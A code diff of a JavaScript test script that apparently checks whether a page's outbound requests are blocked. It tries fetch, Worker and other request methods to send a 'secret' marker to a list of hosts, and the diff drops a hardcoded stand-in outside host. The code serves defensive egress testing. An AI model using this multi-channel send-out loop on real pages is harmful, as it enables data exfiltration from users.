@@ -1,4 +1,4 @@
-// Tries every way to send, to the server of this address and to a host outside. A way that throws was stopped: the server's log judges.
+// Tries every way to send, to each host of a list. A way that throws was stopped: the server's log judges.
 const make = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
 const ways = {
   fetch: url => { fetch(url, { mode: "no-cors" }).catch(() => {}); },
@@ -14,7 +14,7 @@ const ways = {
   worker: url => { new Worker(url); },
 };
 for (const way of arguments[0]) {
-  for (const host of [arguments[1], "http://outside.example"]) {
+  for (const host of arguments[1]) {
     try { ways[way](host + "/sent-by-" + way + "?secret"); } catch (stopped) { /* as it should be */ }
   }
 }
